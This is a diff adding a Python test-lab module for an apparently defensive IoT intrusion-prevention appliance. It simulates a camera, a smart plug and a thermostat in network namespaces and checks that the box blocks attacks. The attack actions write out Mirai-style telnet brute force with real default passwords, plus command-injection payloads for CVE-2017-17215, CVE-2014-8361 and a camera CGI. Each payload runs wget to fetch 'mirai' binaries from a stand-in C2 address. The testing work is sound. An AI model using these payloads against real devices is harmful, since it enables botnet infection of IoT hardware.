@@ -1,0 +1,682 @@
+"""The IoT lab: a home network in network namespaces with the box inline.
+
+Topology (documentation addresses only; nothing is routed to the host)::
+
+  inet ns (router + "internet")          box ns              sw ns (LAN switch)
+  eth0 192.0.2.1/24  ──────────  wan [bridge] lan  ──────  up [sw0] cam / plug / thermo
+  lo: 203.0.113.10  vendor cloud (HTTP :80, MQTT :1883)          │
+      203.0.113.53  DNS            (also answered on 192.0.2.1)  ├─ cam ns    192.0.2.10 camera
+      203.0.113.123 NTP                                          ├─ plug ns   192.0.2.20 smart plug
+      198.51.100.66 C2 server (HTTP :80)                         └─ thermo ns 192.0.2.30 thermostat
+      198.51.100.99 attacker (source address of attacks)
+
+The box runs `reefguard run` inside its own namespace (br_netfilter and
+NFQUEUE are per namespace), so the lab never touches the host's rules. Every
+namespace name carries a random tag; `LabTopology.destroy()` kills the
+processes it started (by PID) and deletes its namespaces, which removes every
+veth, bridge, rule and set inside them.
+
+Services and traffic are small Python programs in this module, started with
+`python -m appliance.lab agent ROLE` / `act ACTION` inside a namespace.
+"""
+from __future__ import annotations
+
+import json
+import os
+import secrets
+import shutil
+import signal
+import socket
+import socketserver
+import struct
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+REPO = Path(__file__).resolve().parent.parent
+PYTHON = sys.executable
+GATEWAY = "192.0.2.1"
+CLOUD = "203.0.113.10"
+DNS_SERVER = "203.0.113.53"
+NTP_SERVER = "203.0.113.123"
+C2_SERVER = "198.51.100.66"
+ATTACKER = "198.51.100.99"
+INTERNET_ADDRESSES = (CLOUD, DNS_SERVER, NTP_SERVER, C2_SERVER, ATTACKER)
+ROUTER_MAC = "02:00:00:00:01:01"
+DEVICE_TELNET_PASSWORD = "xc3511"  # the plug ships Mirai's favourite default
+
+
+@dataclass(frozen=True, slots=True)
+class Device:
+    name: str
+    """Short name, also the switch port name."""
+    ip: str
+    mac: str
+    role: str
+    """Agent role the device runs (camera, plug, thermostat)."""
+
+
+DEVICES = (
+    Device("cam", "192.0.2.10", "02:00:00:00:00:10", "camera"),
+    Device("plug", "192.0.2.20", "02:00:00:00:00:20", "plug"),
+    Device("thermo", "192.0.2.30", "02:00:00:00:00:30", "thermostat"),
+)
+
+
+def _ip(*args: str, check: bool = True) -> subprocess.CompletedProcess:
+    return subprocess.run(["ip", *args], capture_output=True, text=True, check=check)
+
+
+@dataclass
+class LabTopology:
+    tag: str = field(default_factory=lambda: secrets.token_hex(2))
+    processes: list[subprocess.Popen] = field(default_factory=list)
+    created: list[str] = field(default_factory=list)
+
+    def ns(self, role: str) -> str:
+        return f"rg{self.tag}-{role}"
+
+    @property
+    def namespaces(self) -> list[str]:
+        return [self.ns(r) for r in ("inet", "box", "sw")] + [self.ns(d.name) for d in DEVICES]
+
+    # -- building -----------------------------------------------------------
+    def create(self) -> "LabTopology":
+        try:
+            for name in self.namespaces:
+                _ip("netns", "add", name)
+                self.created.append(name)
+                _ip("-n", name, "link", "set", "lo", "up")
+            inet, box, sw = self.ns("inet"), self.ns("box"), self.ns("sw")
+            _ip("link", "add", "eth0", "netns", inet, "address", ROUTER_MAC,
+                "type", "veth", "peer", "name", "wan", "netns", box)
+            _ip("link", "add", "lan", "netns", box, "type", "veth", "peer", "name", "uplink",
+                "netns", sw)
+            _ip("-n", sw, "link", "add", "sw0", "type", "bridge")
+            _ip("-n", sw, "link", "set", "uplink", "master", "sw0", "up")
+            for device in DEVICES:
+                ns = self.ns(device.name)
+                _ip("link", "add", "eth0", "netns", ns, "address", device.mac, "type", "veth",
+                    "peer", "name", device.name, "netns", sw)
+                _ip("-n", sw, "link", "set", device.name, "master", "sw0", "up")
+                _ip("-n", ns, "addr", "add", f"{device.ip}/24", "dev", "eth0")
+                _ip("-n", ns, "link", "set", "eth0", "up")
+                _ip("-n", ns, "route", "add", "default", "via", GATEWAY)
+            _ip("-n", sw, "link", "set", "sw0", "up")
+            _ip("-n", inet, "addr", "add", f"{GATEWAY}/24", "dev", "eth0")
+            _ip("-n", inet, "link", "set", "eth0", "up")
+            for address in INTERNET_ADDRESSES:
+                _ip("-n", inet, "addr", "add", f"{address}/32", "dev", "lo")
+            for port in ("wan", "lan"):
+                _ip("-n", box, "link", "set", port, "up")
+        except BaseException:
+            self.destroy()
+            raise
+        return self
+
+    def plain_bridge(self, name: str = "br0") -> None:
+        """Join wan and lan with a bridge and no rules (the baseline)."""
+        box = self.ns("box")
+        if _ip("-n", box, "link", "show", name, check=False).returncode != 0:
+            _ip("-n", box, "link", "add", name, "type", "bridge")
+        for port in ("wan", "lan"):
+            _ip("-n", box, "link", "set", port, "master", name)
+        _ip("-n", box, "link", "set", name, "up")
+
+    # -- processes ----------------------------------------------------------
+    def command(self, role: str, argv: list[str]) -> list[str]:
+        return ["ip", "netns", "exec", self.ns(role), *argv]
+
+    def start(self, role: str, argv: list[str], **kwargs) -> subprocess.Popen:
+        kwargs.setdefault("stdout", subprocess.DEVNULL)
+        kwargs.setdefault("stderr", subprocess.DEVNULL)
+        process = subprocess.Popen(self.command(role, argv), cwd=str(REPO),
+                                   start_new_session=True, **kwargs)
+        self.processes.append(process)
+        return process
+
+    def run(self, role: str, argv: list[str], timeout: float = 30) -> subprocess.CompletedProcess:
+        return subprocess.run(self.command(role, argv), cwd=str(REPO), capture_output=True,
+                              text=True, timeout=timeout)
+
+    def agent(self, role: str, agent_role: str, *args: str) -> subprocess.Popen:
+        return self.start(role, [PYTHON, "-m", "appliance.lab", "agent", agent_role, *args])
+
+    def act(self, role: str, action: str, *args: str, timeout: float = 30) -> dict:
+        done = self.run(role, [PYTHON, "-m", "appliance.lab", "act", action, *args], timeout)
+        try:
+            return json.loads(done.stdout.strip().splitlines()[-1])
+        except (ValueError, IndexError):
+            return {"ok": False, "error": (done.stderr or done.stdout)[-500:]}
+
+    def start_services(self) -> None:
+        self.agent("inet", "internet")
+        for device in DEVICES:
+            self.agent(device.name, device.role, device.ip)
+        wait_for_tcp(self, "inet", CLOUD, 80)
+        wait_for_tcp(self, "cam", "192.0.2.10", 80, timeout=10, local=True)
+
+    def start_box(self, data_dir: str, rules: list[str], workers: int = 1,
+                  policy: str = "fail-open", inspect: str = "full",
+                  extra: list[str] | None = None) -> subprocess.Popen:
+        argv = [PYTHON, "-m", "ips.cli", "run", "--wan", "wan", "--lan", "lan",
+                "--bridge", "br0", "--data-dir", data_dir, "--workers", str(workers),
+                "--policy", policy, "--gateway", GATEWAY, "--inspect", inspect]
+        for path in rules:
+            argv += ["-S", path]
+        log = open(Path(data_dir) / "box.log", "w")
+        process = self.start("box", argv + (extra or []), stdout=log, stderr=subprocess.STDOUT)
+        deadline = time.time() + 180
+        status = Path(data_dir) / "status.json"
+        while time.time() < deadline:
+            if process.poll() is not None:
+                raise RuntimeError("box exited at start:\n" +
+                                   (Path(data_dir) / "box.log").read_text()[-3000:])
+            try:
+                if json.loads(status.read_text()).get("state") == "running":
+                    return process
+            except (OSError, ValueError):
+                pass
+            time.sleep(0.2)
+        raise RuntimeError("box did not start in time")
+
+    def stop_box(self, process: subprocess.Popen, timeout: float = 20) -> int:
+        if process.poll() is None:
+            process.send_signal(signal.SIGTERM)
+            try:
+                process.wait(timeout)
+            except subprocess.TimeoutExpired:
+                process.kill()
+                process.wait(5)
+        return process.returncode
+
+    # -- tearing down -------------------------------------------------------
+    def destroy(self) -> None:
+        for process in reversed(self.processes):
+            if process.poll() is None:
+                try:
+                    os.killpg(process.pid, signal.SIGTERM)  # its own session: only ours
+                except ProcessLookupError:
+                    pass
+        deadline = time.time() + 10
+        for process in self.processes:
+            try:
+                process.wait(max(0.1, deadline - time.time()))
+            except subprocess.TimeoutExpired:
+                try:
+                    os.killpg(process.pid, signal.SIGKILL)
+                except ProcessLookupError:
+                    pass
+                process.wait(5)
+        self.processes.clear()
+        for name in reversed(self.created):
+            # Processes started inside by `ip netns exec` would keep it alive;
+            # kill any survivor by PID, then delete.
+            pids = _ip("netns", "pids", name, check=False).stdout.split()
+            for pid in pids:
+                try:
+                    os.kill(int(pid), signal.SIGKILL)
+                except (ProcessLookupError, ValueError):
+                    pass
+            _ip("netns", "del", name, check=False)
+        self.created.clear()
+
+    def __enter__(self) -> "LabTopology":
+        return self.create()
+
+    def __exit__(self, *exc) -> None:
+        self.destroy()
+
+
+def wait_for_tcp(lab: LabTopology, role: str, host: str, port: int, timeout: float = 10,
+                 local: bool = False) -> None:
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        result = lab.act(role, "connect", host, str(port))
+        if result.get("ok"):
+            return
+        time.sleep(0.2)
+    raise RuntimeError(f"{host}:{port} not reachable from {role}")
+
+
+# ======================================================================
+# agents: the simulated hosts (run inside a namespace)
+
+class _Quiet:
+    def log_message(self, *args) -> None:
+        pass
+
+
+class CameraHandler(_Quiet, BaseHTTPRequestHandler):
+    """Admin page of a cheap IP camera; its CGI 'runs' whatever it is given."""
+    protocol_version = "HTTP/1.1"
+
+    def _reply(self, body: bytes, status: int = 200) -> None:
+        self.send_response(status)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_GET(self) -> None:  # noqa: N802
+        if self.path.startswith("/cgi-bin/"):
+            self._reply(b"<html>command executed</html>")
+        else:
+            self._reply(b"<html><title>IPCam admin</title>login</html>")
+
+    def do_POST(self) -> None:  # noqa: N802
+        length = int(self.headers.get("Content-Length") or 0)
+        self.rfile.read(min(length, 1 << 20))
+        self._reply(b"<html>upgrade started</html>")
+
+
+class CloudHandler(CameraHandler):
+    """Vendor cloud / C2: answers anything."""
+
+    def do_GET(self) -> None:  # noqa: N802
+        self._reply(b"payload" if "mirai" in self.path else b"ok")
+
+
+def _serve_http(address: str, port: int, handler) -> None:
+    server = ThreadingHTTPServer((address, port), handler)
+    server.daemon_threads = True
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+
+
+class TelnetLogin(socketserver.StreamRequestHandler):
+    """A telnet-like login on 23 that accepts the factory default."""
+
+    def handle(self) -> None:
+        self.request.settimeout(10)
+        try:
+            for _ in range(5):
+                self.wfile.write(b"login: ")
+                user = self.rfile.readline(256).strip()
+                self.wfile.write(b"Password: ")
+                password = self.rfile.readline(256).strip()
+                if user == b"root" and password == DEVICE_TELNET_PASSWORD.encode():
+                    self.wfile.write(b"\r\nBusyBox v1.19 built-in shell\r\n# ")
+                    self.rfile.readline(256)
+                    return
+                self.wfile.write(b"Login incorrect\r\n")
+        except OSError:
+            return
+
+
+class _ThreadingTCP(socketserver.ThreadingTCPServer):
+    allow_reuse_address = True
+    daemon_threads = True
+
+
+def _serve_tcp(address: str, port: int, handler) -> None:
+    server = _ThreadingTCP((address, port), handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+
+
+class MqttBroker(socketserver.BaseRequestHandler):
+    """Answers CONNECT with CONNACK and PINGREQ with PINGRESP; swallows PUBLISH."""
+
+    def handle(self) -> None:
+        self.request.settimeout(30)
+        try:
+            while True:
+                data = self.request.recv(4096)
+                if not data:
+                    return
+                kind = data[0] >> 4
+                if kind == 1:
+                    self.request.sendall(b"\x20\x02\x00\x00")
+                elif kind == 12:
+                    self.request.sendall(b"\xd0\x00")
+        except OSError:
+            return
+
+
+def _dns_answer(query: bytes, address: str) -> bytes:
+    if len(query) < 12:
+        return b""
+    header = query[:2] + b"\x81\x80" + query[4:6] + b"\x00\x01\x00\x00\x00\x00"
+    question_end = 12
+    while question_end < len(query) and query[question_end] != 0:
+        question_end += query[question_end] + 1
+    question = query[12:question_end + 5]
+    answer = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + socket.inet_aton(address)
+    return header + question + answer
+
+
+def _serve_udp(address: str, port: int, respond) -> None:
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.bind((address, port))
+
+    def loop() -> None:
+        while True:
+            data, peer = sock.recvfrom(2048)
+            reply = respond(data)
+            if reply:
+                sock.sendto(reply, peer)
+    threading.Thread(target=loop, daemon=True).start()
+
+
+def agent(role: str, args: list[str]) -> None:
+    if role == "internet":
+        _serve_http(CLOUD, 80, CloudHandler)
+        _serve_http(C2_SERVER, 80, CloudHandler)
+        _serve_tcp(CLOUD, 1883, MqttBroker)
+        for address in (DNS_SERVER, GATEWAY):
+            _serve_udp(address, 53, lambda q: _dns_answer(q, CLOUD))
+        _serve_udp(NTP_SERVER, 123, lambda q: q[:48])
+        _serve_udp(CLOUD, 7, lambda q: q)          # echo, for latency/kill probes
+    elif role == "camera":
+        for port in (80, 37215, 52869):
+            _serve_http(args[0], port, CameraHandler)
+        threading.Thread(target=_camera_uploader, daemon=True).start()
+    elif role == "plug":
+        _serve_tcp(args[0], 23, TelnetLogin)
+        threading.Thread(target=_plug_chatter, daemon=True).start()
+    elif role == "thermostat":
+        threading.Thread(target=_thermostat_mqtt, daemon=True).start()
+    while True:
+        time.sleep(3600)
+
+
+def _camera_uploader() -> None:
+    while True:
+        _http_request(CLOUD, 80, "POST", "/upload/snapshot", body=b"\xff\xd8" + os.urandom(2000))
+        time.sleep(2)
+
+
+def _plug_chatter() -> None:
+    while True:
+        _dns_query(GATEWAY, "plug.vendor.example")
+        _udp_exchange(NTP_SERVER, 123, b"\x1b" + b"\x00" * 47)
+        time.sleep(3)
+
+
+def _thermostat_mqtt() -> None:
+    while True:
+        try:
+            with socket.create_connection((CLOUD, 1883), timeout=5) as sock:
+                client = b"thermo-1"
+                variable = b"\x00\x04MQTT\x04\x02\x00\x3c" + struct.pack("!H", len(client)) + client
+                sock.sendall(bytes([0x10, len(variable)]) + variable)
+                sock.recv(4)
+                for reading in range(10):
+                    topic = b"home/thermostat/temp"
+                    payload = f"{20 + reading % 3}.5".encode()
+                    body = struct.pack("!H", len(topic)) + topic + payload
+                    sock.sendall(bytes([0x30, len(body)]) + body)
+                    time.sleep(2)
+        except OSError:
+            time.sleep(2)
+
+
+# ======================================================================
+# actions: one-shot traffic, result printed as one JSON line
+
+def _http_request(host: str, port: int, method: str, path: str, body: bytes = b"",
+                  timeout: float = 3.0, source: str | None = None) -> dict:
+    try:
+        with socket.create_connection((host, port), timeout=timeout,
+                                      source_address=(source, 0) if source else None) as sock:
+            head = (f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: lab\r\n"
+                    f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode()
+            sock.sendall(head + body)
+            data = b""
+            while True:
+                chunk = sock.recv(4096)
+                if not chunk:
+                    break
+                data += chunk
+        status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0
+        return {"ok": status == 200, "status": status}
+    except (OSError, ValueError, IndexError) as exc:
+        return {"ok": False, "error": type(exc).__name__}
+
+
+def _dns_query(server: str, name: str) -> dict:
+    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+    for label in name.split("."):
+        query += bytes([len(label)]) + label.encode()
+    query += b"\x00\x00\x01\x00\x01"
+    return _udp_exchange(server, 53, query)
+
+
+def _udp_exchange(host: str, port: int, data: bytes, timeout: float = 2.0) -> dict:
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.settimeout(timeout)
+    try:
+        sock.sendto(data, (host, port))
+        reply, _ = sock.recvfrom(2048)
+        return {"ok": bool(reply)}
+    except OSError as exc:
+        return {"ok": False, "error": type(exc).__name__}
+    finally:
+        sock.close()
+
+
+def _telnet_login(host: str, user: str, password: str, source: str | None) -> dict:
+    """Mirai-style: wait for the prompts, send the default credentials."""
+    try:
+        with socket.create_connection((host, 23), timeout=3,
+                                      source_address=(source, 0) if source else None) as sock:
+            sock.settimeout(3)
+            seen = sock.recv(256)
+            sock.sendall(user.encode() + b"\r\n")
+            seen += sock.recv(256)
+            sock.sendall(password.encode() + b"\r\n")
+            deadline = time.time() + 3
+            while time.time() < deadline and b"# " not in seen:
+                chunk = sock.recv(256)
+                if not chunk:
+                    break
+                seen += chunk
+        return {"ok": b"# " in seen, "shell": b"# " in seen}
+    except OSError as exc:
+        return {"ok": False, "shell": False, "error": type(exc).__name__}
+
+
+def _keepalive_then_inject(host: str, source: str | None) -> dict:
+    """One HTTP/1.1 connection: a benign request, the injection, then a
+    benign request again -> shows that the flow stays blocked."""
+    results = []
+    try:
+        sock = socket.create_connection((host, 80), timeout=2,
+                                        source_address=(source, 0) if source else None)
+    except OSError as exc:
+        return {"ok": False, "error": type(exc).__name__}
+    with sock:
+        for path in ("/index.html", f"/cgi-bin/admin.cgi?cmd=;wget%20http://{C2_SERVER}/mirai.arm7",
+                     "/index.html"):
+            try:
+                sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
+                data = sock.recv(4096)
+                results.append(data.startswith(b"HTTP/1.1 200"))
+            except OSError:
+                results.append(False)
+    return {"ok": True, "answered": results}
+
+
+def act(action: str, args: list[str]) -> dict:
+    if action == "connect":
+        try:
+            socket.create_connection((args[0], int(args[1])), timeout=1).close()
+            return {"ok": True}
+        except OSError as exc:
+            return {"ok": False, "error": type(exc).__name__}
+    if action == "http":
+        source = args[4] if len(args) > 4 else None
+        return _http_request(args[0], int(args[1]), args[2], args[3], source=source)
+    if action == "upload":
+        return _http_request(CLOUD, 80, "POST", "/upload/snapshot", body=os.urandom(4000))
+    if action == "mqtt":
+        try:
+            with socket.create_connection((CLOUD, 1883), timeout=3) as sock:
+                variable = b"\x00\x04MQTT\x04\x02\x00\x3c\x00\x02t1"
+                sock.sendall(bytes([0x10, len(variable)]) + variable)
+                return {"ok": sock.recv(4) == b"\x20\x02\x00\x00"}
+        except OSError as exc:
+            return {"ok": False, "error": type(exc).__name__}
+    if action == "dns":
+        return _dns_query(args[0] if args else GATEWAY, "cloud.vendor.example")
+    if action == "ntp":
+        return _udp_exchange(NTP_SERVER, 123, b"\x1b" + b"\x00" * 47)
+    if action == "mirai":
+        # The brute force: a few wrong defaults first, then the one that works.
+        tried = []
+        for user, password in (("admin", "admin"), ("root", "vizxv"),
+                               ("root", DEVICE_TELNET_PASSWORD)):
+            tried.append(_telnet_login(args[0], user, password, ATTACKER))
+        return {"ok": True, "shell": any(t["shell"] for t in tried), "tries": tried}
+    if action == "inject":
+        return _http_request(args[0], 80, "GET",
+                             f"/cgi-bin/admin.cgi?cmd=;wget%20http://{C2_SERVER}/mirai.arm7",
+                             source=ATTACKER)
+    if action == "huawei":
+        body = (b'<?xml version="1.0" ?><s:Envelope><s:Body><u:Upgrade>'
+                b'<NewStatusURL>$(/bin/busybox wget -g ' + C2_SERVER.encode() +
+                b' -l /tmp/x -r /mirai.mips)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>')
+        return _http_request(args[0], 37215, "POST", "/ctrlt/DeviceUpgrade_1", body, source=ATTACKER)
+    if action == "realtek":
+        body = (b'<?xml version="1.0" ?><s:Envelope><s:Body><u:AddPortMapping>'
+                b'<NewInternalClient>`cd /var; wget http://' + C2_SERVER.encode() +
+                b'/mirai.mips`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>')
+        return _http_request(args[0], 52869, "POST", "/picsdesc.xml", body, source=ATTACKER)
+    if action == "keepalive-inject":
+        return _keepalive_then_inject(args[0], ATTACKER)
+    if action == "telnet-scan":
+        # An infected device sweeping the internet for telnet.
+        opened = 0
+        for host in range(1, 31):
+            sock = socket.socket()
+            sock.setblocking(False)
+            try:
+                sock.connect_ex((f"198.51.100.{host}", 23))
+                opened += 1
+            finally:
+                time.sleep(0.02)
+                sock.close()
+        return {"ok": True, "probes": opened}
+    if action == "udp-probes":
+        # count, interval: one fresh flow per probe (a new source port each)
+        count, interval = int(args[0]), float(args[1])
+        answered = []
+        for _ in range(count):
+            start = time.time()
+            answered.append(_udp_exchange(CLOUD, 7, b"probe", timeout=0.3)["ok"])
+            time.sleep(max(0.0, interval - (time.time() - start)))
+        return {"ok": True, "answered": answered}
+    return {"ok": False, "error": f"unknown action {action}"}
+
+
+# ======================================================================
+# `reefguard lab`
+
+SCENARIO = (
+    ("benign", "camera uploads a snapshot to the vendor cloud", "cam", "upload", ()),
+    ("benign", "thermostat talks MQTT to the cloud", "thermo", "mqtt", ()),
+    ("benign", "smart plug resolves a name at the gateway", "plug", "dns", (GATEWAY,)),
+    ("benign", "smart plug asks NTP for the time", "plug", "ntp", ()),
+    ("benign", "camera admin page from the LAN side of the router", "inet", "http",
+     ("192.0.2.10", "80", "GET", "/index.html")),
+    ("attack", "Mirai telnet brute force on the smart plug", "inet", "mirai", ("192.0.2.20",)),
+    ("attack", "camera CGI command injection (wget from the C2)", "inet", "inject", ("192.0.2.10",)),
+    ("attack", "Huawei HG532 RCE CVE-2017-17215", "inet", "huawei", ("192.0.2.10",)),
+    ("attack", "Realtek SDK RCE CVE-2014-8361", "inet", "realtek", ("192.0.2.10",)),
+    ("attack", "infected camera scans the internet for telnet", "cam", "telnet-scan", ()),
+)
+
+
+def _attack_succeeded(action: str, result: dict) -> bool:
+    if action == "mirai":
+        return bool(result.get("shell"))
+    if action == "telnet-scan":
+        return False  # judged by the alert
+    return bool(result.get("ok"))
+
+
+def read_alerts(data_dir: str | Path) -> list[dict]:
+    alerts = []
+    try:
+        with open(Path(data_dir) / "eve.json") as handle:
+            for line in handle:
+                try:
+                    record = json.loads(line)
+                except ValueError:
+                    continue
+                if record.get("event_type") == "alert":
+                    alerts.append(record)
+    except OSError:
+        pass
+    return alerts
+
+
+def run_lab(args) -> int:
+    if os.geteuid() != 0:
+        raise SystemExit("reefguard lab: needs root (network namespaces)")
+    own_dir = args.data_dir is None
+    data_dir = args.data_dir or tempfile.mkdtemp(prefix="reefguard-lab-")
+    Path(data_dir).mkdir(parents=True, exist_ok=True)
+    rules = [str(REPO / "signatures" / "virtual-patches.rules")] + list(args.rules or [])
+    lab = LabTopology()
+    interrupted = False
+    try:
+        print(f"lab {lab.tag}: building namespaces {', '.join(lab.namespaces)}")
+        lab.create()
+        lab.start_services()
+        print(f"lab: starting the box ({args.policy}, {args.workers} worker(s)); data in {data_dir}")
+        box = lab.start_box(data_dir, rules, workers=args.workers, policy=args.policy)
+        if args.web:
+            from ips.service import _host_port, start_web
+            host, port = _host_port(args.web)
+            if start_web(host, port, Path(data_dir)):
+                print(f"lab: dashboard on http://{host}:{port}/")
+        print()
+        for kind, text, role, action, action_args in SCENARIO:
+            result = lab.act(role, action, *action_args)
+            if kind == "benign":
+                verdict = "passed" if result.get("ok") else "FAILED"
+            else:
+                verdict = "got through!" if _attack_succeeded(action, result) else "stopped"
+            print(f"  [{kind:6}] {text:55} {verdict}")
+        time.sleep(1.5)  # let the collector write the last alerts
+        print("\nblocked by the box:")
+        for alert in read_alerts(data_dir):
+            a = alert.get("alert", {})
+            print(f"  {alert.get('src_ip')}:{alert.get('src_port')} -> "
+                  f"{alert.get('dest_ip')}:{alert.get('dest_port')}  [{a.get('action')}] "
+                  f"{a.get('signature')} (sid {a.get('signature_id')})")
+        if args.duration:
+            print(f"\nbenign device traffic for {args.duration:.0f} s (Ctrl-C to stop)...")
+        deadline = time.time() + (args.duration or float("inf"))
+        while time.time() < deadline:
+            if box.poll() is not None:
+                print("box stopped unexpectedly; see box.log")
+                break
+            time.sleep(0.5)
+        lab.stop_box(box)
+    except KeyboardInterrupt:
+        interrupted = True
+    finally:
+        lab.destroy()
+        if own_dir and not interrupted and os.environ.get("REEFGUARD_LAB_KEEP") != "1":
+            shutil.rmtree(data_dir, ignore_errors=True)
+        print(f"lab {lab.tag}: torn down")
+    return 0
+
+
+def main(argv: list[str]) -> None:
+    if len(argv) >= 2 and argv[0] == "agent":
+        agent(argv[1], argv[2:])
+    elif len(argv) >= 2 and argv[0] == "act":
+        print(json.dumps(act(argv[1], argv[2:])))
+    else:
+        raise SystemExit("usage: python -m appliance.lab agent ROLE [ARGS] | act ACTION [ARGS]")
+
+
+if __name__ == "__main__":
+    main(sys.argv[1:])
